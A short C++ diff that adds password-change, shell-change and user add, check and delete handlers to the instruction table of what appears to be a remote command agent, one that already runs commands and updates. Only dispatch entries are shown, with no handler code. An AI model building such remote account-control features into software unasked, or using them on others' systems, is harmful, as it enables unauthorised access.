@@ -12,9 +12,11 @@ std::map<const std::string, Processor> instruction_table;
 // Names the exact table does not hold, compared without regard to letter case, in this order.
 const std::vector<NamedInstruction> instruction_chain = {
     {"whereami", whereAmI, kReply},
+    {"changepass", changePass, kCommand},
     {"directorymd5", directoryMd5, kReply},
     {"update", runUpdate, kCommand},
     {"version", versionInfo, kReply},
+    {"changeshell", changeShell, kCommand},
     {"iplist", ipList, kCommand},
     {"extract", extractArchive, kReplyOrCommand},
     {"isfile", isFile, kCommand},
@@ -33,4 +35,9 @@ const std::vector<NamedInstruction> instruction_chain = {
     {"ping", pingHost, kCommand},
 };
 
-void initInstructions() { instruction_table["command"] = Processor{insCommand, false}; }
+void initInstructions() {
+  instruction_table["checkuser"] = Processor{checkUser, true};
+  instruction_table["adduser"] = Processor{addUser, true};
+  instruction_table["deluser"] = Processor{delUser, true};
+  instruction_table["command"] = Processor{insCommand, false};
+}
